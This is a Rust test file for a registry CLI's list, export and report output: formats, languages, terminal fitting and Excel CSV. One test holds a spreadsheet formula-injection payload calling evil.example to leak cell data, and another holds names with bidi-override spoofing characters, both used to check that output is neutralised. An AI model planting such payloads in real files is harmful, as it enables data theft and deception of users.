//! `list` as people and spreadsheets read it: the output file's extension
//! choosing the format (also of `export` and `report`), tables in the
//! reader's language, plain when piped and fitted to a terminal, CSV that a
//! spreadsheet cannot run, and values that cannot hide themselves.
//!
//! Excel workbooks read back: tests/xlsx.rs.

mod common;

use std::io::Read;
use std::path::Path;

use common::*;
use unicode_width::UnicodeWidthStr;

/// Runs a command that must be refused as a usage error (exit 2), leaving
/// no file in `dir` and the registry as it was; returns its stderr.
fn refused_usage(reg: &Reg, args: &[&str]) -> String {
    let before = reg.dump();
    let files = files_in(reg.dir.path());
    let stderr = reg.fails(args, 2);
    assert_eq!(files_in(reg.dir.path()), files, "{args:?} left a file behind");
    assert_eq!(reg.dump(), before, "{args:?} changed the registry");
    stderr
}

fn path_in(reg: &Reg, name: &str) -> String {
    reg.dir.path().join(name).to_str().unwrap().to_string()
}

fn read(path: &str) -> String {
    std::fs::read_to_string(path).unwrap()
}

#[test]
fn the_extension_of_the_output_file_chooses_the_format() {
    let reg = Reg::demo();
    let json = path_in(&reg, "completed.json");
    reg.ok(&["assignment", "list", "--year", "2023", "--status", "completed", "-o", &json]);
    let listed: serde_json::Value = serde_json::from_str(&read(&json)).unwrap();
    assert_eq!(count(&listed), 287, "the 287 completed assignments of the infographic");
    let jsonl = path_in(&reg, "partners.JSONL");
    reg.ok(&["partner", "list", "--output", &jsonl]);
    let lines: Vec<serde_json::Value> = read(&jsonl).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 101);
    assert_eq!(lines[0]["name"], "Aeres Hogeschool");
    let csv = path_in(&reg, "labs.csv");
    reg.ok(&["lab", "list", "-o", &csv]);
    assert!(read(&csv).starts_with("id,name,regions,themes,members,description,status,status_since\n"));
    let txt = path_in(&reg, "labs.txt");
    reg.ok(&["--lang", "en", "lab", "list", "-o", &txt]);
    let table = read(&txt);
    assert!(table.starts_with("id  name") && table.ends_with("10 records\n"), "{table}");

    let exported = path_in(&reg, "assignments.json");
    reg.ok(&["export", "assignments", "--status", "in_progress", "--year", "2023", "-o", &exported]);
    let exported: serde_json::Value = serde_json::from_str(&read(&exported)).unwrap();
    assert_eq!(count(&exported), 54);
    let lines = path_in(&reg, "themes.jsonl");
    reg.ok(&["export", "themes", "-o", &lines]);
    assert_eq!(read(&lines).lines().count(), 7, "the six themes of the programme and IT change, a line each");

    for (file, start) in [
        ("report.html", "<!DOCTYPE html>"),
        ("report.json", "{"),
        ("report.csv", "section,"),
        ("report.md", "# "),
        ("report.markdown", "# "),
        ("report.txt", "I-Partnerschap"),
    ] {
        let path = path_in(&reg, file);
        reg.ok(&["report", "--year", "2023", "-o", &path]);
        assert!(read(&path).starts_with(start), "{file}: {}", &read(&path)[..80]);
    }
    // An explicit format that agrees with the extension is fine.
    let agreed = path_in(&reg, "agreed.csv");
    reg.ok(&["partner", "list", "--format", "csv", "-o", &agreed]);
    assert!(read(&agreed).starts_with("id,name,"));
}

#[test]
fn an_extension_that_contradicts_the_format_or_cannot_be_written_is_refused() {
    let reg = Reg::demo();
    let out = |name: &str| path_in(&reg, name);
    let stderr = refused_usage(&reg, &["report", "--year", "2023", "-o", &out("report.pdf")]);
    assert!(stderr.contains("cannot write .pdf files here") && stderr.contains(".html"), "{stderr}");
    let stderr = refused_usage(&reg, &["report", "--year", "2023", "--format", "json", "-o", &out("r.html")]);
    assert!(stderr.contains("--format json does not match") && stderr.contains("--format html"), "{stderr}");
    let stderr = refused_usage(&reg, &["partner", "list", "-o", &out("partners.pdf")]);
    assert!(stderr.contains("it writes .txt, .json, .jsonl, .csv, .xlsx"), "{stderr}");
    let stderr = refused_usage(&reg, &["partner", "list", "--format", "csv", "-o", &out("partners.json")]);
    assert!(stderr.contains("--format csv does not match"), "{stderr}");
    let stderr = refused_usage(&reg, &["export", "partners", "-o", &out("partners.md")]);
    assert!(stderr.contains("it writes .csv, .json, .jsonl, .xlsx"), "{stderr}");
    let stderr = refused_usage(&reg, &["export", "partners", "--format", "jsonl", "-o", &out("p.json")]);
    assert!(stderr.contains("--format jsonl does not match"), "{stderr}");
    let stderr = refused_usage(&reg, &["export", "partners", "--excel", "-o", &out("p.json")]);
    assert!(stderr.contains("are for CSV (--format csv), not json"), "{stderr}");
    let stderr = refused_usage(&reg, &["partner", "list", "--excel", "-o", &out("p.xlsx")]);
    assert!(stderr.contains("--excel writes CSV; give"), "{stderr}");
    let stderr = refused_usage(&reg, &["partner", "list", "--excel", "--format", "json"]);
    assert!(stderr.contains("--excel writes CSV"), "{stderr}");
}

#[test]
fn a_refused_filter_writes_nothing_in_any_format() {
    let reg = Reg::demo();
    for format in ["table", "json", "jsonl", "csv", "xlsx"] {
        let stderr = reg.refused(&["assignment", "list", "--status", "bezig", "--format", format]);
        assert!(stderr.contains("\"bezig\" is not an assignment status"), "{format}: {stderr}");
    }
    reg.refused(&["assignment", "list", "--status", "bezig", "--excel"]);
    for format in ["csv", "json", "jsonl", "xlsx"] {
        reg.refused(&["export", "assignments", "--status", "bezig", "--format", format]);
    }
    let path = path_in(&reg, "never.csv");
    reg.refused(&["assignment", "list", "--status", "bezig", "-o", &path]);
    assert!(!Path::new(&path).exists());
}

#[test]
fn list_replaces_a_file_only_with_force() {
    let reg = Reg::demo();
    let path = path_in(&reg, "partners.csv");
    std::fs::write(&path, "keep me").unwrap();
    let stderr = refused_usage(&reg, &["partner", "list", "-o", &path]);
    assert!(stderr.contains("already exists; it was left untouched (give --force to replace it"), "{stderr}");
    assert_eq!(read(&path), "keep me");
    let out = reg.run(&["partner", "list", "-o", &path, "--force"]);
    assert!(out.status.success() && out.stdout.is_empty());
    assert_eq!(stderr_of(&out), format!("wrote 101 partners to {path}\n"));
    assert!(read(&path).starts_with("id,name,short_name,"));
    assert_eq!(files_in(reg.dir.path()), ["partners.csv", "registry.sqlite"], "no temporary file left behind");
}

#[test]
fn columns_choose_what_every_format_writes() {
    let reg = Reg::demo();
    let csv = reg.ok(&["assignment", "list", "--columns", "status,id", "--format", "csv", "--year", "2023"]);
    assert_eq!(csv.lines().next(), Some("status,id"));
    assert_eq!(csv.lines().nth(1), Some("cancelled,1"));
    let table = reg.ok(&["--lang", "en", "assignment", "list", "--columns", "id,external_id", "--as-of", "2020-06-30"]);
    assert_eq!(table.lines().next(), Some(" id  external id"));
    let stderr = refused_usage(&reg, &["partner", "list", "--columns", "id,nme"]);
    assert_eq!(
        stderr,
        "ipart: --columns: \"nme\" is not a column of partners (columns: id, name, short_name, aliases, sector, \
         level, region, joined_on, left_on, external_code, source, external_id)\n"
    );
    let wide = reg.ok(&["--lang", "en", "lab", "list", "--wide"]);
    assert!(wide.lines().next().unwrap().contains("description"), "{wide}");
}

#[test]
fn lists_speak_dutch_with_lang_nl_and_english_names_otherwise() {
    let reg = Reg::demo();
    let nl = reg.ok(&["--lang", "nl", "assignment", "list", "--year", "2023", "--status", "in_progress"]);
    let header = nl.lines().next().unwrap();
    assert_eq!(
        header.split("  ").filter(|c| !c.is_empty()).map(str::trim).collect::<Vec<_>>(),
        ["id", "titel", "soort", "niveau", "thema", "overheidspartner", "onderwijspartner", "studenten", "status"]
    );
    assert!(nl.contains("in uitvoering") && !nl.contains("in_progress"), "{nl}");
    assert!(nl.contains("afstudeeropdracht") && nl.contains("Informatiehuishouding"), "{nl}");
    assert!(nl.ends_with("54 records\n"));
    // IPART_LANG is the default for --lang.
    let partners = stdout_of(
        &reg.cmd().env("IPART_LANG", "nl").args(["partner", "list", "--sector", "government"]).output().unwrap(),
    );
    assert!(partners.starts_with(" id  naam") && partners.contains("rijksoverheid") && partners.contains("Midden"));
    let labs = reg.ok(&["--lang", "nl", "lab", "list", "--as-of", "2024-01-01"]);
    assert!(labs.contains("in oprichting") && labs.contains("Noord, Oost") && labs.contains("regio's"), "{labs}");

    let en = reg.ok(&["--lang", "en", "assignment", "list", "--year", "2023", "--status", "in_progress"]);
    assert!(en.lines().next().unwrap().contains("government partner"), "{en}");
    assert!(en.contains("in progress") && en.contains("graduation assignment") && !en.contains("in_progress"));
    let partners = reg.ok(&["--lang", "en", "partner", "list", "--sector", "government"]);
    assert!(partners.contains("government") && partners.contains("Central") && !partners.contains("midden"));
    let labs = reg.ok(&["--lang", "en", "lab", "list", "--as-of", "2024-01-01"]);
    assert!(labs.contains("in formation") && !labs.contains("in_formation"), "{labs}");

    // Scripts get field names and codes, whatever the language.
    let json = reg.ok(&["--lang", "nl", "lab", "list", "--as-of", "2024-01-01", "--format", "json"]);
    assert!(json.contains("\"status\": \"in_formation\"") && json.contains("\"midden\""), "{json}");
    let csv = reg.ok(&["--lang", "nl", "partner", "list", "--format", "csv"]);
    assert!(csv.starts_with("id,name,short_name,") && csv.contains(",government,"), "{csv}");

    // One record in Dutch, with its history.
    let shown = reg.ok(&["--lang", "nl", "assignment", "show", "3"]);
    assert!(shown.starts_with("veld") && shown.contains("overheidspartner  RDW"), "{shown}");
    assert!(shown.contains("statusgeschiedenis:\nsinds       status\n2020-06-11  in voorbereiding\n"), "{shown}");
}

#[test]
fn regions_are_spelled_alike_in_lists_and_the_report() {
    let reg = Reg::demo();
    for (lang, names) in
        [("en", ["North", "East", "Central", "West", "South"]), ("nl", ["Noord", "Oost", "Midden", "West", "Zuid"])]
    {
        let report = reg.ok(&["--lang", lang, "report", "--year", "2023", "--format", "markdown"]);
        let partners = reg.ok(&["--lang", lang, "partner", "list", "--columns", "id,region"]);
        for name in names {
            assert!(report.contains(&format!("| {name} |")), "{lang}: {name} not in the report");
            assert!(partners.contains(&format!("  {name}\n")), "{lang}: {name} not in the list");
        }
    }
}

#[test]
fn piped_tables_are_plain_and_aligned() {
    let reg = Reg::demo();
    let table = reg.ok(&["--lang", "en", "partner", "list", "--sector", "education"]);
    assert!(!table.contains(['│', '┆', '─', '═', '┌', '╞']), "no box drawing in a pipe:\n{table}");
    let lines: Vec<&str> = table.lines().collect();
    assert_eq!(lines.last(), Some(&"35 records"));
    assert!(lines.iter().all(|l| !l.ends_with(' ')), "no trailing spaces");
    // Every column starts where its header does, two spaces after the last.
    let header = lines[0];
    assert_eq!(
        header,
        "id  name                                  short name  sector     level  region   joined on   left on  external code"
    );
    let name_at = header.find("name").unwrap();
    let sector_at = header.find("sector").unwrap();
    for line in &lines[1..lines.len() - 1] {
        assert_eq!(&line[name_at - 2..name_at], "  ", "{line}");
        assert_eq!(line[sector_at..].split(' ').next(), Some("education"), "{line}");
    }
    assert_eq!(
        lines[1],
        " 1  Aeres Hogeschool                      Aeres       education  HBO    East     2023-09-04           30TX"
    );
}

#[test]
fn formulas_are_neutralised_in_list_and_show_csv_and_kept_in_the_native_export() {
    let reg = Reg::demo();
    let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
    let id = reg.ok(&["partner", "add", evil, "--sector", "other", "--short-name", "+SUM(1)"]);
    let id = id.trim();
    for args in [
        vec!["partner", "list", "--format", "csv"],
        vec!["partner", "list", "--excel"],
        vec!["partner", "show", id, "--format", "csv"],
    ] {
        let out = reg.ok(&args);
        assert!(out.contains(r#"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"#), "{args:?}:\n{out}");
        assert!(out.contains("'+SUM(1)") && !out.contains(",=HYPERLINK") && !out.contains(";=HYPERLINK"), "{args:?}");
    }
    // A number is no formula: -1 would stay -1, and ids are never quoted.
    let csv = reg.ok(&["partner", "list", "--format", "csv", "--columns", "id,name"]);
    assert!(csv.contains(&format!("\n{id},\"'=HYPERLINK")), "{csv}");
    // JSON and the native export keep the value exactly (the export round-trips).
    let json = reg.json(&["partner", "show", id]);
    assert_eq!(json["name"], evil);
    let native = reg.ok(&["export", "partners"]);
    assert!(native.contains(r#"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"#), "{native}");
    assert!(!native.contains("'=HYPERLINK"));
}

#[test]
fn hidden_characters_are_shown_escaped_in_tables() {
    let reg = Reg::demo();
    // ipart refuses such names (tests/hostile.rs), but a registry written by
    // an older ipart, or by another program, may hold them.
    let names = ["visible\rHIDDEN", "abc\u{202E}fdp.exe", "zero\u{200B}width", "two\nlines", "bidi\u{2067}isolate"];
    let conn = reg.conn();
    for name in names {
        conn.execute("INSERT INTO partner (name, sector) VALUES (?1, 'other')", [name]).unwrap();
    }
    drop(conn);
    let table = reg.ok(&["partner", "list", "--sector", "other"]);
    for shown in
        ["visible\\rHIDDEN", "abc\\u{202E}fdp.exe", "zero\\u{200B}width", "two\\nlines", "bidi\\u{2067}isolate"]
    {
        assert!(table.contains(shown), "{shown} not in\n{table}");
    }
    assert!(!table.contains(['\r', '\u{202E}', '\u{200B}', '\u{2067}']), "{table:?}");
    assert_eq!(table.lines().count(), names.len() + 2, "a newline in a name makes no new line");
    let shown = reg.ok(&["partner", "show", "visible\rHIDDEN"]);
    assert!(shown.contains("visible\\rHIDDEN") && !shown.contains('\r'), "{shown:?}");
    // On a terminal too; JSON keeps the value exactly.
    let terminal = on_terminal(&reg, &["partner", "list", "--sector", "other"], 80, None);
    assert!(terminal.stdout.contains("visible\\rHIDDEN") && terminal.stdout.contains("abc\\u{202E}fdp.exe"));
    assert!(!terminal.stdout.contains(['\r', '\u{202E}']), "{:?}", terminal.stdout);
    let json = reg.json(&["partner", "list", "--sector", "other"]);
    assert!(rows(&json).iter().any(|p| p["name"] == "visible\rHIDDEN"));
}

#[test]
fn excel_csv_is_semicolons_a_bom_and_dutch_labels() {
    let reg = Reg::demo();
    let out = reg.run(&["assignment", "list", "--excel", "--year", "2023", "--status", "afgerond", "--level", "MBO"]);
    assert!(out.status.success());
    let bytes = out.stdout;
    assert!(bytes.starts_with(b"\xEF\xBB\xBFid;bron;extern id;titel;soort;niveau;thema;overheidspartner;onderwijspartner;lab;studenten;begint op;eindigt op;geregistreerd op;opmerking;status;sinds\n"), "{}", String::from_utf8_lossy(&bytes[..200]));
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    let row = text.lines().nth(1).unwrap();
    assert!(row.contains(";afgerond;") && row.contains(";MBO;") && !row.contains(",completed,"), "{row}");
    let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(text.as_bytes());
    assert!(reader.records().all(|r| r.unwrap().len() == 17));
    // --lang chooses the language of the labels and values.
    let en = reg.ok(&["--lang", "en", "partner", "list", "--excel", "--sector", "government"]);
    assert!(en.starts_with("\u{feff}id;name;short name;aliases;sector;"), "{en}");
    assert!(en.contains(";government;") && en.contains(";Central;"), "{en}");
}

/// What a command showed on a terminal.
struct Terminal {
    stdout: String,
    stderr: String,
    code: Option<i32>,
}

/// Runs ipart with its standard output on a pseudo terminal `columns`
/// wide; `env_columns` sets COLUMNS (which wins over the terminal's size).
fn on_terminal(reg: &Reg, args: &[&str], columns: u16, env_columns: Option<&str>) -> Terminal {
    use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
    let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
    grantpt(&master).unwrap();
    unlockpt(&master).unwrap();
    let name = ptsname(&master, Vec::new()).unwrap();
    let terminal = std::fs::OpenOptions::new().read(true).write(true).open(name.to_str().unwrap()).unwrap();
    let size = rustix::termios::Winsize { ws_row: 40, ws_col: columns, ws_xpixel: 0, ws_ypixel: 0 };
    rustix::termios::tcsetwinsize(&terminal, size).unwrap();
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_ipart"));
    cmd.env("IPART_TODAY", TODAY)
        .env("NO_COLOR", "1")
        .env_remove("IPART_DB")
        .env_remove("IPART_LANG")
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .env_remove("LANG")
        .env_remove("COLUMNS")
        .arg("--db")
        .arg(&reg.path)
        .args(args)
        .stdin(std::process::Stdio::null())
        .stdout(terminal)
        .stderr(std::process::Stdio::piped());
    if let Some(c) = env_columns {
        cmd.env("COLUMNS", c);
    }
    let mut child = cmd.spawn().unwrap();
    drop(cmd); // closes this process's copy of the terminal, so reading ends with the child
    let mut master = std::fs::File::from(master);
    let reader = std::thread::spawn(move || {
        let mut shown = Vec::new();
        let mut buffer = [0u8; 8192];
        // Reading the terminal ends in EIO once the child has closed it.
        while let Ok(n) = master.read(&mut buffer) {
            if n == 0 {
                break;
            }
            shown.extend_from_slice(&buffer[..n]);
        }
        shown
    });
    let mut stderr = String::new();
    child.stderr.take().unwrap().read_to_string(&mut stderr).unwrap();
    let status = child.wait().unwrap();
    let shown = reader.join().unwrap();
    // The terminal turns each \n into \r\n.
    let stdout = String::from_utf8(shown).unwrap().replace("\r\n", "\n");
    Terminal { stdout, stderr, code: status.code() }
}

fn widest_line(text: &str) -> usize {
    text.lines().map(UnicodeWidthStr::width).max().unwrap_or(0)
}

#[test]
fn a_table_on_an_80_column_terminal_fits_without_wrapping_a_cell() {
    let reg = Reg::demo();
    for kind in ["assignment", "partner", "lab", "phd", "activity", "curriculum", "chair", "question", "theme"] {
        let shown = on_terminal(&reg, &[kind, "list"], 200, Some("80"));
        assert_eq!(shown.code, Some(0), "{kind}: {}", shown.stderr);
        assert!(widest_line(&shown.stdout) <= 80, "{kind} wider than 80:\n{}", shown.stdout);
        assert!(shown.stdout.lines().count() > 2, "{kind}");
    }
    let shown = on_terminal(&reg, &["assignment", "list"], 200, Some("80")).stdout;
    let header = shown.lines().next().unwrap();
    assert_eq!(header, " id  title                                    government partner  status");
    assert_eq!(
        shown.lines().nth(2).unwrap(),
        "  2  Machine learning voor fraudesignalen b…  Belastingdienst     completed"
    );
    assert!(shown.ends_with("593 records\n"));
    // Each row is one line: as many lines as records, the header and the count.
    assert_eq!(shown.lines().count(), 593 + 2);

    // Without COLUMNS, the terminal's own width; in Dutch too.
    let dutch = on_terminal(&reg, &["--lang", "nl", "assignment", "list"], 100, None).stdout;
    assert!(widest_line(&dutch) <= 100 && widest_line(&dutch) > 80, "{dutch}");
    assert!(dutch.lines().next().unwrap().contains("overheidspartner"), "{dutch}");
    // --columns keeps the columns asked for and shortens text; --wide shows all.
    let chosen = on_terminal(
        &reg,
        &["assignment", "list", "--columns", "id,title,kind,education_partner,students"],
        200,
        Some("60"),
    )
    .stdout;
    assert!(widest_line(&chosen) <= 60, "{chosen}");
    assert!(chosen.lines().next().unwrap().ends_with("students"), "{chosen}");
    let wide = on_terminal(&reg, &["assignment", "list", "--wide"], 200, Some("80")).stdout;
    assert!(
        widest_line(&wide) > 200 && wide.lines().next().unwrap().contains("external id"),
        "{}",
        wide.lines().next().unwrap()
    );
}

#[test]
fn an_excel_workbook_is_refused_on_a_terminal() {
    let reg = Reg::demo();
    for args in [&["assignment", "list", "--format", "xlsx"][..], &["export", "assignments", "--format", "xlsx"]] {
        let shown = on_terminal(&reg, args, 80, None);
        assert_eq!(shown.code, Some(2), "{args:?}");
        assert!(shown.stdout.is_empty(), "{args:?} wrote to the terminal");
        assert_eq!(
            shown.stderr,
            "ipart: an Excel workbook is binary and would garble the terminal; write it to a file with -o FILE.xlsx\n"
        );
    }
    // A pipe takes it.
    let out = reg.run(&["assignment", "list", "--format", "xlsx"]);
    assert!(out.status.success() && out.stdout.starts_with(b"PK"));
}

#[test]
fn help_shows_the_formats_with_examples() {
    let reg = Reg::demo();
    let help = reg.ok(&["assignment", "list", "--help"]);
    for text in [
        "-o, --output <FILE>",
        "--excel",
        "--wide",
        "--columns",
        "ipart assignment list -o assignments.xlsx",
        "Formats:",
    ] {
        assert!(help.contains(text), "{text} not in\n{help}");
    }
}
